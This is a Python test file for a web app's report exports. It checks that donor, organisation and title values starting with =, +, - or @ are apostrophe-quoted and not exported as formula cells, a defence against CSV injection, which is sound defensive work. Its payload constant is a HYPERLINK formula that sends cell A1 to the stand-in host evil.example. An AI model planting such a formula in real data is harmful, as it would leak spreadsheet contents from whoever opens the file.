"""A name that a spreadsheet would run as a formula (=, +, -, @ first) reaches the CSV and XLSX
exports defused: quoted with an apostrophe, as text, never a formula cell (CSV injection).

The ledger's memo and the finance contributions CSV with "=" are in tests/web/ledger/test_export.py
and tests/web/donations/test_pages.py; here every prefix, every table naming people, both formats.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from app.accounts.models import Role
from app.platform.db import utcnow
from app.platform.extensions import db
from tests.factories import user_with
from tests.reporting_support import build_scenario

PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _export(client, table: str, form: str) -> list[dict[str, object]]:
    today = utcnow().date()
    period = f"start={today - timedelta(days=1)}&end={today + timedelta(days=1)}"
    response = client.get(f"/reports/exports?table={table}&format={form}&{period}", buffered=True)
    assert response.status_code == 200
    if form == "csv":
        return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    sheet = load_workbook(io.BytesIO(response.data)).active  # not read-only: cell types too
    header, *rows = list(sheet.iter_rows())
    for row in rows:
        assert all(cell.data_type != "f" for cell in row)  # no formula cell at all
    names = [cell.value for cell in header]
    return [dict(zip(names, [cell.value for cell in row], strict=True)) for row in rows]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_names_that_look_like_formulas_are_defused_in_exports(client, sign_in, prefix, form):
    scenario = build_scenario()
    hostile = prefix + PAYLOAD
    scenario.named_gift.donor.name = hostile
    scenario.grant.organisation.name = hostile
    scenario.grant.title = scenario.grant.application.title = hostile
    db.session.flush()
    sign_in(user_with(Role.FINANCE))
    defused = "'" + hostile

    donors = {row["donor"] for row in _export(client, "contributions", form)}
    assert defused in donors and hostile not in donors
    for table in ("grants", "applications"):
        (row,) = _export(client, table, form)
        assert row["organisation"] == defused, table
        assert row["title"] == defused, table
